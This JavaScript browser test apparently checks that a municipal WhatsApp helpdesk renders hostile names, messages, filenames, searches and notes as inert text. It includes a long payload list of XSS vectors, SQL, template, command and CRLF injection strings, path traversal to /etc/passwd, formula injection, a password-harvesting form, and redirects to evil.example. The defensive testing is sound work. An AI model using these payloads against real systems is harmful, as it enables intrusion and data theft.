// What the world sends is hostile (RELIABILITY W1, W2): whatever somebody writes, is called or calls a file stands there as
// text. Nothing of it runs, fetches, or turns the words around it.

import assert from "node:assert/strict";
import { createHmac } from "node:crypto";

import { axe, browserTest, fitsTheScreen, logIn, screenshot } from "./support.mjs";

/** What a browser, a template, a database or a reader could take for something else than text. */
const hostile = [
  "<script>globalThis.ran=1</script>", "<img src=x onerror=globalThis.ran=1>", "\"><svg/onload=globalThis.ran=1>", "'><details open ontoggle=globalThis.ran=1>",
  "<iframe src=javascript:globalThis.ran=1>", "<a href=\"javascript:globalThis.ran=1\">klik</a>", "</textarea><script>globalThis.ran=1</script>", "</title><script>globalThis.ran=1</script>",
  "<!--<img src=\"--><img src=x onerror=globalThis.ran=1//\">", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=wachtwoord>", "<math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.ran=1>", "<div hx-get=/uitloggen hx-trigger=load>", "<template><script>globalThis.ran=1</script></template>",
  "javascript:globalThis.ran=1", "data:text/html,<script>globalThis.ran=1</script>", "vbscript:x", "https://evil.example/\" onmouseover=\"globalThis.ran=1", "//evil.example", "file:///etc/passwd",
  "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}", "{{ shell.w.log_out() }}", "'; DROP TABLE message; --", "1' OR '1'='1", "%00%0d%0aSet-Cookie:%20x=1", "$(touch /tmp/x) `id`", "../../../../etc/passwd", "&lt;b&gt;&amp;amp;&#60;",
  "\u202egnp.exe\u202c", "\u2066\u202ebonedrev", "\u2069\u2069)(\u202e", "\u200b\u200c\u200d\ufeff", "Z\u0351\u036b\u0343\u0363\u0300a\u0310\u0311\u030bl\u0304g\u0313\u0365o\u0308", "ﷺﷺﷺ", "مرحبا، أين مكتب البلدية؟", "שלום (עולם) 123",
  "👩‍👩‍👧‍👦🏳️‍🌈".repeat(20), "a".repeat(3_000), "\t \u00a0\u2003 ", "undefined", "null", "NaN", "true", "[object Object]", "0", "-1", "1e309", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "＜script＞ran=1＜/script＞", "\u0001\u0007\u001b[31mrood\u001b[0m", "\ud800",
  "=HYPERLINK(\"https://evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "__proto__", "constructor", "toString", "<b>vet</b>", "]]>", "?xml-stylesheet", "<x:y/>",
];

/** As it is seen: with single spaces, and without what has no shape. */
const seen = (text) => text.replace(/\s+/gu, " ").replace(/[\p{Cc}\p{Cf}\p{Cs}\ufffd]/gu, "").replace(/ +/g, " ").trim();

let number = 0;
/** Delivers a message as WhatsApp does, signed. */
async function arrives(town, { name, message, from = `3161${String(number + 1).padStart(7, "0")}` }) {
  number += 1;
  const value = {
    messaging_product: "whatsapp",
    metadata: { display_phone_number: "31600999888", phone_number_id: "106540352242922" },
    contacts: [{ profile: { name }, wa_id: from }],
    messages: [{ from, id: `wamid.HOSTILE${number}`, timestamp: String(Math.floor(Date.now() / 1000)), ...message }],
  };
  const body = JSON.stringify({ object: "whatsapp_business_account", entry: [{ id: "102290129340398", changes: [{ field: "messages", value }] }] });
  const signature = createHmac("sha256", "made-up-app-secret-of-zwanendam").update(body).digest("hex");
  const answer = await fetch(town.url("/hooks/wa-main"), { method: "POST", body, headers: { "content-type": "application/json", "x-hub-signature-256": `sha256=${signature}` } });
  assert.equal(answer.status, 200);
}

/** Nothing of what came is more than text. */
async function harmless(page) {
  const found = await page.evaluate(() => {
    const odd = [];
    if (globalThis.ran) odd.push("something ran");
    for (const script of document.scripts) if (!script.src.startsWith(`${location.origin}/assets/`)) odd.push(script.outerHTML);
    for (const one of document.querySelectorAll("iframe, object, embed, style, base, meta[http-equiv], math, template, [hx-get], [srcdoc]")) odd.push(one.outerHTML);
    for (const one of document.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        if (name.startsWith("on") || (["href", "src", "action", "formaction"].includes(name) && !/^(\/(?!\/)|#|\?|https?:\/\/(?:127\.0\.0\.1|localhost))/.test(value))) odd.push(`${one.tagName} ${name}=${value}`);
      }
    }
    return odd;
  });
  assert.deepEqual(found, [], page.url());
}

/** The pages of a list, from the first to the last. */
async function* pagesOf(page, town, where) {
  let next = where;
  while (next) {
    await page.goto(town.url(next));
    yield page;
    const link = page.locator('.pager a[rel="next"]');
    next = (await link.count()) > 0 ? await link.first().getAttribute("href") : undefined;
  }
}

browserTest("whatever residents write or are called stands there as text and does nothing", async ({ town, desk: page, phone }) => {
  let dialogs = 0;
  page.on("dialog", (dialog) => ((dialogs += 1), dialog.dismiss()));
  // Each is somebody's name, and all of them are what one resident writes.
  const writer = "31610000000";
  for (const text of hostile) {
    await arrives(town, { name: text, message: { type: "text", text: { body: "Goedemorgen" } } });
    await arrives(town, { from: writer, name: "Yusuf", message: { type: "text", text: { body: text } } });
  }
  const file = { id: "1", filename: "\"><img src=x onerror=globalThis.ran=1>\u202efdp.exe", mime_type: "text/html", caption: hostile[0] };
  await arrives(town, { from: writer, name: "Yusuf", message: { type: "document", document: file } });
  await arrives(town, { name: "De laatste", message: { type: "text", text: { body: "Klaar" } } });
  await logIn(page, town, "noor@zwanendam.example");
  for (let tries = 0; tries < 60; tries += 1) {
    await page.goto(town.url("/gesprekken?lijst=alle"));
    if ((await page.getByText("De laatste").count()) > 0) break;
    await page.waitForTimeout(500);
  }

  // As names: in the list, in a bdi of its own, so that what turns text around ends where the name does.
  const names = new Map();
  for await (const list of pagesOf(page, town, "/gesprekken?lijst=alle")) {
    await harmless(list);
    const found = await list.locator(".row__link").evaluateAll((all) => all.map((one) => [one.querySelector("bdi")?.textContent ?? "(no bdi)", one.getAttribute("href")]));
    for (const [name, address] of found) names.set(seen(name), address);
  }
  await screenshot(page, "hostile-list");
  assert.ok(!names.has("(no bdi)"), "every name is isolated");
  const missing = hostile.map(seen).filter((text) => text && ![...names.keys()].some((name) => name.startsWith(text.slice(0, 60))));
  assert.deepEqual(missing, [], "names that are not shown as they are");

  // As what is written: all of it, as text, in its own direction.
  await page.goto(town.url(names.get("Yusuf")));
  const written = [];
  let earlier;
  do {
    await harmless(page);
    written.push(await page.locator("#berichten-lijst").evaluate((list) => list.textContent));
    const turned = await page.locator(".message__body").evaluateAll((all) => all.filter((one) => one.textContent.trim() && !one.closest("[dir=auto]") && !one.querySelector("[dir=auto], bdi")).map((one) => one.outerHTML));
    assert.deepEqual(turned, [], "text without a direction of its own");
    if (!earlier) {
      await axe(page);
      await screenshot(page, "hostile-conversation");
    }
    const link = page.locator('a[rel="prev"]');
    earlier = (await link.count()) > 0 ? await link.first().getAttribute("href") : undefined;
    if (earlier) await page.goto(town.url(earlier));
  } while (earlier);
  const all = seen(written.join(" "));
  const lost = hostile.map(seen).filter((text) => !all.includes(text));
  assert.deepEqual(lost, [], "texts that are not shown as they are");
  // A name under which something could be saved is shown without what has a meaning in a path or turns it around.
  assert.ok(all.includes("img src=x onerror=globalThis.ran=1_fdp.exe"), "the name of the file is shown as text");

  // As the title of a conversation; the longest fits a phone.
  await logIn(phone, town, "noor@zwanendam.example");
  for (const text of [hostile[0], hostile[2], hostile[30], "a".repeat(3_000), "שלום (עולם) 123"]) {
    const [, address] = [...names].find(([name]) => name.startsWith(seen(text).slice(0, 60)));
    await phone.goto(town.url(address));
    assert.ok(await phone.locator("#gesprek-kop > bdi").count(), "the name is isolated");
    await harmless(phone);
    await fitsTheScreen(phone);
  }
  await screenshot(phone, "hostile-conversation");
  assert.equal(dialogs, 0, "a dialog of the browser was shown");
});

browserTest("whatever is searched for, noted, or chosen as the name of a team or colleague stands there as text", async ({ town, deskWithoutScript, desk: page }) => {
  page.on("dialog", (dialog) => dialog.dismiss().then(() => page.complaints.push("a dialog")));
  await logIn(page, town, "fatima@zwanendam.example");
  // What is too long to search for is refused, which is said elsewhere.
  for (const text of hostile.filter((one) => one.length < 200)) {
    await page.goto(town.url(`/zoeken?q=${encodeURIComponent(text.toWellFormed())}`));
    await harmless(page);
  }
  await page.goto(town.url(`/zoeken?q=${encodeURIComponent(hostile[2])}`));
  assert.equal(await page.locator("main input[name=q]").inputValue(), hostile[2]);
  await page.goto(town.url("/gesprekken?lijst=alle"));
  await page.locator(".row__link").first().click();
  await page.getByRole("log").waitFor();
  const address = new URL(page.url()).pathname;
  for (const text of [hostile[0], hostile[1], hostile[3], hostile[30]]) {
    await page.goto(town.url(address));
    await page.keyboard.press("t");
    await page.getByLabel("Uw notitie").fill(text);
    await page.keyboard.press("Control+Enter");
    await page.waitForURL(/gedaan=/);
    await page.waitForLoadState("domcontentloaded");
    const notes = await page.locator("#berichten-lijst").innerText();
    assert.ok(seen(notes).includes(seen(text)), `${text} is not in ${notes}`);
    await harmless(page);
  }
  await logIn(deskWithoutScript, town, "ingrid@zwanendam.example");
  for (const text of ["<script>globalThis.ran=1</script>", "\"><img src=x onerror=globalThis.ran=1>", "\u202emaet", "{{7*7}}"]) {
    await deskWithoutScript.goto(town.url("/beheer/teams"));
    await deskWithoutScript.getByLabel("Naam van het team").fill(text);
    await deskWithoutScript.getByRole("button", { name: "Voeg toe" }).click();
    await deskWithoutScript.waitForURL(/gedaan=nieuw/);
  }
  await deskWithoutScript.goto(town.url("/beheer/teams"));
  const teams = await deskWithoutScript.locator("main").innerText();
  for (const text of ["<script>globalThis.ran=1</script>", "{{7*7}}"]) assert.ok(teams.includes(text), teams);
  await screenshot(deskWithoutScript, "hostile-teams");
  for (const where of ["/beheer/gebruikers", "/beheer/gebruikers/nieuw", "/beheer/teams", "/beheer/controlelog", "/profiel"]) {
    await page.goto(town.url(where));
    await harmless(page);
  }
  // Not everybody may see all of these: what was answered is a page all the same.
  page.complaints.splice(0, page.complaints.length, ...page.complaints.filter((line) => !line.includes("status of 403")));
});
